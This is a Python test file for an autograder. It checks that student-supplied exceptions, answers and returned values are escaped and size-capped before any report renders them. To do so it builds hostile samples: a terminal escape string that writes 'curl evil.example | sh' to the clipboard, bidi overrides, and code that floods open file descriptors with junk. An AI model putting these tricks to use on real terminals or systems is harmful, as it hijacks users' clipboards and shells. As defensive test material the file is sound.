"""What a student controls, at the grader's two input boundaries: the values and lines the probe
sends back (bounded, read in native byte order, junk at a bounded cost), and the text quoted back
(cut short and escaped once, where it enters a result, so no rendering shows it raw or huge)."""

from __future__ import annotations

import base64
import json
import shutil
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from conftest import PROJECT
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.extra import numpy as hnp

from autograder.api import grade
from autograder.course import open_course
from autograder.grading.grader import Grader, grade_submission, judge, load_grader
from autograder.grading.student_values import student_value
from autograder.kinds import KINDS
from autograder.kinds.answers import Concepts
from autograder.kinds.base import PreparedCase, StudentValue
from autograder.kinds.compare import compare
from autograder.probe import wire_format
from autograder.probe.runner import describe_error
from autograder.reports.feedback import CASE_CHARS, CHECK_CHARS, RESULT_CHARS, check_feedback
from autograder.reports.gradescope import to_gradescope
from autograder.reports.html import render_html
from autograder.reports.markdown import render_markdown
from autograder.reports.text import render_text
from autograder.results.model import CaseOutcome, CheckOutcome, FailureKind, SubmissionResult
from autograder.results.serialize import result_to_json
from autograder.results.untrusted import untrusted_text
from autograder.sandbox import ProbeRun, WarmSandbox, bubblewrap_available

# Terminal escape sequences: clear the screen, write the clipboard (OSC 52), conceal text; then a
# right-to-left override, a carriage return, a C1 control and a lone surrogate.
CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()
HOSTILE = f"\x1b[2J\x1b[H\x1b]52;c;{CLIPBOARD}\x07\x1b[8mhidden\x1b[0m \u202eevil\r\x9b31m\ud800 done"
UNSAFE = [chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))]
UNSAFE += ["\u202e", "\u2066", "\u2028", "\ud800"]


def renderings(result: SubmissionResult) -> dict[str, str]:
    return {
        "text": render_text(result),
        "markdown": render_markdown(result),
        "html": render_html(result, plots=False),
        "json": json.dumps(to_gradescope(result)),
        "gradebook": result_to_json(result),
    }


def assert_safe(result: SubmissionResult, bound: int = 300_000) -> None:
    """No rendering holds an unsafe character or passes `bound` characters; all are UTF-8."""
    for name, text in renderings(result).items():
        assert len(text) < bound, (name, len(text))
        found = sorted({repr(c) for c in UNSAFE if c in text})
        assert found == [], (name, found)
        text.encode("utf-8")


def raw_outcomes(grader: Grader, answer: Callable[[str, PreparedCase], dict[str, Any] | None]) -> ProbeRun:
    raw = {}
    for check, cases in grader.prepared:
        for case in cases:
            made = answer(check.kind, case)
            if made is not None:
                raw[case.call["id"]] = made
    return ProbeRun(raw, "fabricated", 0, (), {})


def judged(grader: Grader, answer: Callable[[str, PreparedCase], dict[str, Any] | None]) -> SubmissionResult:
    return SubmissionResult("fabricated", judge(grader, raw_outcomes(grader, answer)), "fabricated")


def raised(call_id: str, type_name: str, message: str, traceback: str = "") -> dict[str, Any]:
    error = {"kind": "raised", "type": type_name, "message": message, "traceback": traceback, "lineage": ""}
    return {"id": call_id, "ok": False, "error": error}


def returned(call_id: str, encoded: Any) -> dict[str, Any]:
    return {"id": call_id, "ok": True, "value": encoded, "warnings": []}


# ---- untrusted text ----


def test_untrusted_text_escapes_what_a_terminal_would_act_on() -> None:
    shown = untrusted_text(HOSTILE)
    assert "\\x1b[2J" in shown and "\\x1b]52;c;" in shown and "\\x07" in shown and "\\u202e" in shown
    assert "\\r" in shown and "\\x9b" in shown and "\\ud800" in shown
    assert not any(c in shown for c in UNSAFE)
    assert untrusted_text("a\nb\tc\rd") == "a\\nb\\tc\\rd"
    assert untrusted_text("a\nb\tc", multiline=True) == "a\nb\tc"
    assert untrusted_text("plain text, é and ✓") == "plain text, é and ✓"


def test_untrusted_text_is_cut_with_a_note_and_stays_within_its_limit() -> None:
    shown = untrusted_text("x" * 3_000_000, 500)
    assert len(shown) <= 500 and shown.startswith("xxx") and shown.endswith("more characters)")
    escaped = untrusted_text("\x1b" * 400, 500)  # short, but four times longer once escaped
    assert len(escaped) <= 500 and escaped.startswith("\\x1b\\x1b") and "more characters" in escaped
    assert untrusted_text(shown, 500) == shown and untrusted_text(escaped, 500) == escaped


# ---- student text enters a result escaped and bounded ----


def test_terminal_escapes_in_an_exception_message_reach_no_rendering(grader: Grader) -> None:
    where = f'  File "/submission/lstm_gates.py", line 3, in sigmoid {HOSTILE}\n'
    result = judged(grader, lambda kind, case: raised(case.call["id"], f"Evil{HOSTILE}", HOSTILE, where))
    failure = result.outcomes[0].cases[0].failure
    assert failure is not None and failure.kind is FailureKind.RAISED
    assert "\\x1b]52;c;" in failure.detail and "\\x1b" in failure.exception and "\\x1b" in failure.where
    assert_safe(result)


def test_a_three_megabyte_exception_name_gives_a_small_result(grader: Grader) -> None:
    huge = "E" * 3_000_000
    result = judged(grader, lambda kind, case: raised(case.call["id"], huge, huge, f"File {huge}"))
    assert len(json.dumps(to_gradescope(result))) < 200_000
    assert len(result_to_json(result)) < 200_000
    assert_safe(result)


def test_the_runner_cuts_what_an_exception_says_of_itself() -> None:
    name = "N" * 3_000_000
    error_class = type(name, (ValueError,), {"__qualname__": "Q" * 3_000_000})
    described = describe_error(error_class("m" * 3_000_000))
    assert len(json.dumps(described)) < 3_000 and described["lineage"].startswith("ValueError")

    class UnprintableError(Exception):
        def __str__(self) -> str:
            raise RuntimeError("no")

    assert describe_error(UnprintableError())["message"] == "<could not be shown>"


def test_a_four_megabyte_concept_answer_renders_small_and_quickly(grader: Grader) -> None:
    check, cases = next((c, cs) for c, cs in grader.prepared if c.kind == "concepts")
    answers = {question: "b" * 4_000_000 + HOSTILE for question in cases[0].expected}
    outcome = Concepts().evaluate(check, cases, [StudentValue(answers)], grader.ground)
    result = SubmissionResult("alice", (outcome,), "fabricated")
    text = render_text(result)
    assert len(text) < 20_000 and "bbbb …" in text
    assert_safe(result, bound=30_000)


def test_a_written_answer_keeps_its_lines_but_not_its_escapes(grader: Grader) -> None:
    check, cases = next((c, cs) for c, cs in grader.prepared if c.kind == "manual")
    answer = "First line.\nSecond line " + HOSTILE + "x" * 100_000
    outcome = KINDS["manual"].evaluate(check, cases, [StudentValue(answer)], grader.ground)
    assert outcome.answer.startswith("First line.\nSecond line \\x1b[2J") and len(outcome.answer) <= 5000
    assert not any(c in outcome.answer for c in UNSAFE)


def test_a_million_key_dict_is_quoted_by_a_few_keys() -> None:
    keys = {f"key{i:07d}\x1b[2J": 0 for i in range(10**6)}
    message = compare(keys, {"W_f": (64, 164)}, 0.0, 0.0)
    assert message is not None and len(message) < 400 and "and 999990 more" in message
    assert "\x1b" not in message


def test_a_value_quoted_back_is_short_and_escaped(grader: Grader) -> None:
    """Long values, and what a tampered runner says of an unsupported object, quoted in messages."""
    marker = {"__unsupported__": HOSTILE * 100}
    values = {
        "list": wire_format.encode(["\x1b]52;c;" + "A" * 1000] * 50_000),
        "marker": marker,
        "in a list": [marker, 1.0],
        "in a dict": {"__dict__": {key: marker for key in ("W_f", "activations", "q1")}},
    }
    for name, value in values.items():
        result = judged(grader, lambda kind, case, value=value: returned(case.call["id"], value))
        for outcome in result.outcomes:
            for case in outcome.cases:
                assert len(case.message) < 1_000, (name, case.message)
        assert_safe(result)


def test_every_quoted_value_is_short() -> None:
    for value in (["A" * 1000] * 50_000, {"k" * 10_000: 1}, ("x" * 5000,), "\x1b" * 100):
        for expected in (1, 1.0, "a", {"k": 1}, (1,), np.zeros(2)):
            message = compare(value, expected, 0.0, 0.0)
            assert message is not None and len(message) < 400 and "\x1b" not in message


# ---- values over the wire's bounds ----


GATE_KEYS = ("f", "i", "c_tilde", "c", "o", "h")


def tampered_gate_table(rows: int) -> dict[str, Any]:
    """A gate table of shape (rows, 0) per key, as a tampered runner could write it."""
    empty = {"__ndarray__": ["float64", [rows, 0], ""]}
    return {"__dict__": {key: empty for key in GATE_KEYS}}


@pytest.mark.parametrize("rows", [10**6, 10**7])
def test_a_gate_table_of_a_million_empty_rows_is_unreadable_and_renders_small(
    grader: Grader, rows: int
) -> None:
    def answer(kind: str, case: PreparedCase) -> dict[str, Any] | None:
        return returned(case.call["id"], tampered_gate_table(rows)) if kind == "gate_table" else None

    result = judged(grader, answer)
    gate = next(o for o in result.outcomes if o.check_id == "a.gate_table")
    failure = gate.cases[0].failure
    assert failure is not None and failure.kind is FailureKind.UNREADABLE_VALUE
    assert "too large" in failure.detail and "array cells" in failure.detail
    assert len(render_html(result, plots=False)) < 200_000
    honest = student_value(
        returned("x", wire_format.encode({k: np.zeros((rows, 0)) for k in GATE_KEYS})), 1.0
    )
    assert isinstance(honest.value, wire_format.Unsupported) and "too large" in honest.value.what


def test_a_gate_table_of_many_empty_rows_within_the_bounds_renders_small(grader: Grader) -> None:
    rows = wire_format.MAX_CELLS // len(GATE_KEYS)
    table = wire_format.encode({key: np.zeros((rows, 0)) for key in GATE_KEYS})
    assert "__dict__" in table  # within the bounds: it crosses

    def answer(kind: str, case: PreparedCase) -> dict[str, Any] | None:
        return returned(case.call["id"], table) if kind == "gate_table" else None

    result = judged(grader, answer)
    gate = next(o for o in result.outcomes if o.check_id == "a.gate_table")
    assert gate.score == 0 and "shape" in gate.cases[0].message
    page = render_html(result, plots=False)
    assert len(page) < 200_000 and f"and {rows - 64} more steps" in page


def test_a_million_key_dict_from_the_probe_is_unreadable(grader: Grader) -> None:
    many = {"__dict__": {f"k{i}": 0 for i in range(10**6)}}
    result = judged(grader, lambda kind, case: returned(case.call["id"], many))
    shapes = next(o for o in result.outcomes if o.check_id.startswith("c.weight_shapes"))
    failure = shapes.cases[0].failure
    assert failure is not None and failure.kind is FailureKind.UNREADABLE_VALUE
    assert "dict keys" in failure.detail or "dict entries" in failure.detail
    assert len(check_feedback(shapes)) < CHECK_CHARS


# ---- rendering caps ----


def test_every_rendering_is_capped_per_case_check_and_result() -> None:
    """A result holding huge text (built without the entry points, as an old gradebook might):
    each rendering still stays small."""
    cases = tuple(CaseOutcome(f"case {i}", 0.0, message="m" * 4_000_000) for i in range(64))
    outcomes = tuple(CheckOutcome(f"c{i}", f"check {i}", "a", 1.0, cases=cases) for i in range(40))
    result = SubmissionResult("alice", outcomes, "fabricated")
    document = to_gradescope(result)
    outputs = [test["output"] for test in document["tests"]]
    assert all(len(output) <= CHECK_CHARS for output in outputs)
    assert sum(map(len, outputs)) <= RESULT_CHARS + 40 * 100
    assert len(json.dumps(document)) < 1_000_000
    assert all(len(line) <= CASE_CHARS + 40 for line in check_feedback(outcomes[0]).split("\n"))
    assert "feedback left out" in outputs[-1]
    for render in (render_text, render_markdown, render_html):  # (the gradebook keeps it as it is)
        assert len(render(result)) < 1_000_000, render


# ---- through the sandbox ----


def build(folder: Path, module: str, code: str) -> Path:
    folder.mkdir(parents=True)
    for path in sorted((PROJECT / "exercises").glob("*.py")):
        text = path.read_text()
        if path.stem == module:
            text += "\n\n" + textwrap.dedent(code)
        (folder / path.name).write_text(text)
    return folder


BIG_ENDIAN = """

import functools as _functools
import inspect as _inspect

import numpy as _np


def _big_endian(value):
    if isinstance(value, _np.ndarray) and value.dtype.kind == "f":
        return value.astype(">f8")
    if isinstance(value, dict):
        return {key: _big_endian(item) for key, item in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(_big_endian(item) for item in value)
    return value


def _wrapped(function):
    @_functools.wraps(function)
    def wrapper(*args, **kwargs):
        return _big_endian(function(*args, **kwargs))
    return wrapper


for _name, _value in list(globals().items()):
    if _inspect.isfunction(_value) and _value.__module__ == __name__ and not _name.startswith("_"):
        globals()[_name] = _wrapped(_value)
"""


def test_correct_arrays_in_big_endian_order_score_full_marks(tmp_path: Path) -> None:
    folder = tmp_path / "big_endian"
    shutil.copytree(PROJECT / "examples/submissions/full_marks_reference", folder)
    for module in folder.glob("*.py"):
        module.write_text(module.read_text() + BIG_ENDIAN)
    (result,) = grade([folder], course=open_course(PROJECT))
    failed = [check_feedback(o) for o in result.outcomes if o.status == "failed"]
    assert result.score == result.max_score > 0, failed


JUNK = """
import os, stat

_junk = b"junk\\n" * 12_000_000  # 60 MB of junk lines on every file the probe holds open
for _fd in range(3, 64):
    try:
        if stat.S_ISREG(os.fstat(_fd).st_mode):
            os.write(_fd, _junk)
    except OSError:
        pass
"""

HOSTILE_ERROR = f"""
def sigmoid(z):
    name = "E" * 3_000_000
    raise type(name, (ValueError,), {{"__qualname__": "Q" * 3_000_000}})({HOSTILE!r} * 1000)
"""


def count_parsed_lines(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    parsed = [0]
    parse = wire_format.parse_outcome

    def counting(line: bytes) -> dict[str, Any] | None:
        parsed[0] += 1
        return parse(line)

    monkeypatch.setattr(wire_format, "parse_outcome", counting)
    return parsed


@pytest.mark.parametrize("warm", [False, True], ids=["cold", "warm"])
def test_junk_on_the_result_channel_is_read_at_a_bounded_cost(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, warm: bool
) -> None:
    if warm and not bubblewrap_available():
        pytest.skip("the warm sandbox needs bubblewrap")
    folder = build(tmp_path / "junk", "lstm_gates", JUNK)
    parsed = count_parsed_lines(monkeypatch)
    grader = load_grader(open_course(PROJECT))
    if warm:
        sandbox = WarmSandbox(grader.limits)
        try:
            result = grade_submission(folder, grader, warm=sandbox)
        finally:
            sandbox.close()
    else:
        (result,) = grade([folder], course=open_course(PROJECT))
    assert result.grader_error is None and len(result.outcomes) == 13 and result.score == 0
    assert FailureKind.LIMIT_HIT in result.troubles
    assert "wrote more than its output limit" in check_feedback(result.outcomes[0])
    # Each probe run reads at most the outcomes plus MAX_JUNK_LINES + 1 junk lines, twice (watchdog
    # and reading); the probe restarts once per function of lstm_gates and of what imports it.
    runs = 10
    bound = runs * 2 * (len(grader.plan) + wire_format.MAX_JUNK_LINES + 1)
    assert 0 < parsed[0] <= bound, parsed[0]


def test_a_hostile_exception_through_the_sandbox_reaches_no_rendering(tmp_path: Path) -> None:
    folder = build(tmp_path / "hostile", "lstm_gates", HOSTILE_ERROR)
    (result,) = grade([folder], course=open_course(PROJECT))
    sigmoid = result.outcomes[0]
    failure = sigmoid.cases[0].failure
    assert failure is not None and failure.kind is FailureKind.RAISED
    assert "ValueError" in failure.lineage and failure.exception.startswith("EEEE")
    assert "\\x1b]52;c;" in failure.detail
    assert_safe(result)
    assert len(json.dumps(to_gradescope(result))) < 100_000


# ---- properties ----

ORDERS = st.sampled_from("<>=")
NUMERIC = st.sampled_from(sorted(wire_format.ALLOWED_DTYPES))
DTYPES = st.one_of(
    st.tuples(NUMERIC, ORDERS).map(lambda pair: np.dtype(pair[0]).newbyteorder(pair[1])),
    st.sampled_from([np.dtype("complex128"), np.dtype("<U3"), np.dtype("datetime64[s]")]),
)
SHAPES = hnp.array_shapes(min_dims=0, max_dims=4, min_side=0, max_side=6)
ARRAYS = DTYPES.flatmap(lambda dtype: hnp.arrays(dtype, SHAPES))
TEXT = st.text(st.one_of(st.characters(), st.sampled_from([*UNSAFE, "\n", "\t"])), max_size=60)
SCALARS = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(), TEXT, st.builds(np.float32, st.floats(width=32))
)
VALUES = st.recursive(
    st.one_of(SCALARS, ARRAYS),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.lists(inner, max_size=4).map(tuple),
        st.dictionaries(TEXT, inner, max_size=4),
        st.dictionaries(st.sampled_from(GATE_KEYS), inner, max_size=6),
    ),
    max_leaves=12,
)
JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), TEXT),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(TEXT, inner, max_size=3),
        st.tuples(
            st.sampled_from(["__ndarray__", "__tuple__", "__dict__", "__float__", "__unsupported__", "x"]),
            inner,
        ).map(lambda pair: {pair[0]: pair[1]}),
        st.tuples(NUMERIC, st.lists(st.integers(-1, 10**7), max_size=5), st.binary(max_size=64)).map(
            lambda a: {"__ndarray__": [a[0], a[1], base64.b64encode(a[2]).decode()]}
        ),
    ),
    max_leaves=10,
)


class QuietGrader:
    """The grader, with a short repr for Hypothesis's reports."""

    def __init__(self, grader: Grader) -> None:
        self.grader = grader

    def __repr__(self) -> str:
        return "<the course's grader>"


@pytest.fixture(scope="module")
def quiet_grader(grader: Grader) -> QuietGrader:
    return QuietGrader(grader)


FAST = settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
FEW = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@FAST
@given(ARRAYS)
def test_property_arrays_cross_in_native_order_with_their_values(array: np.ndarray) -> None:
    back = wire_format.decode(json.loads(json.dumps(wire_format.encode(array))))
    if array.dtype.name not in wire_format.ALLOWED_DTYPES:
        assert isinstance(back, wire_format.Unsupported)
        return
    assert back.dtype.isnative and back.dtype == array.dtype.newbyteorder("=") and back.shape == array.shape
    np.testing.assert_array_equal(back, array)


@FEW
@given(VALUES)
def test_property_any_returned_value_is_judged_bounded(quiet_grader: QuietGrader, value: Any) -> None:
    channel = wire_format.ChannelReader()  # as the runner writes it and the grader reads it
    line = wire_format.outcome_line({"id": "x", "ok": True, "value": wire_format.encode(value)})
    channel.feed(line.encode())
    (outcome,) = channel.outcomes
    result = judged(quiet_grader.grader, lambda kind, case: {**outcome, "id": case.call["id"]})
    for check in result.outcomes:
        feedback = check_feedback(check)
        assert len(feedback) <= CHECK_CHARS and not any(c in feedback for c in UNSAFE)


@FAST
@given(JSON)
def test_property_any_json_from_the_probe_becomes_a_value_or_a_typed_failure(raw: Any) -> None:
    got = student_value({"id": "x", "ok": True, "value": raw, "warnings": []}, 1.0)
    assert got.ok or (got.failure is not None and got.failure.kind is FailureKind.UNREADABLE_VALUE)
    if got.failure is not None:
        assert len(got.failure.detail) <= 300 and not any(c in got.failure.detail for c in UNSAFE)


LINES = st.one_of(
    st.binary(max_size=80),
    st.builds(lambda tail: wire_format.OUTCOME_START + tail, st.binary(max_size=80)),
    st.builds(lambda v: json.dumps({"id": "a#0", "ok": True, "value": v}).encode(), JSON),
    st.builds(lambda t: json.dumps({"id": "a#1", "ok": False, "error": {"message": t}}).encode(), TEXT),
)


@FAST
@given(st.lists(LINES, max_size=12), st.lists(st.integers(1, 64), min_size=1, max_size=8))
def test_property_any_bytes_on_the_channel_give_only_well_formed_outcomes(
    lines: list[bytes], cuts: list[int]
) -> None:
    data = b"\n".join(lines) + b"\n"
    reader, start = wire_format.ChannelReader(), 0
    for size in cuts * (len(data) // sum(cuts) + 1):  # fed in pieces, as the channel grows
        reader.feed(data[start : start + size])
        start += size
    whole = wire_format.ChannelReader()
    whole.feed(data)
    assert [o["id"] for o in reader.outcomes] == [o["id"] for o in whole.outcomes]
    for outcome in reader.outcomes:
        assert type(outcome["id"]) is str and type(outcome["ok"]) is bool
        student_value(outcome, 1.0)  # never raises


@FEW
@given(TEXT, TEXT, st.text(max_size=3000), TEXT)
def test_property_student_text_is_rendered_escaped_and_bounded(
    quiet_grader: QuietGrader, message: str, type_name: str, long: str, answer: str
) -> None:
    def answer_for(kind: str, case: PreparedCase) -> dict[str, Any]:
        if kind == "concepts":
            return returned(case.call["id"], wire_format.encode(dict.fromkeys(case.expected, answer)))
        if kind == "manual":
            return returned(case.call["id"], wire_format.encode(answer + long))
        return raised(case.call["id"], type_name + long, message + long, f"File {message}\n")

    result = judged(quiet_grader.grader, answer_for)
    assert_safe(result, bound=200_000)
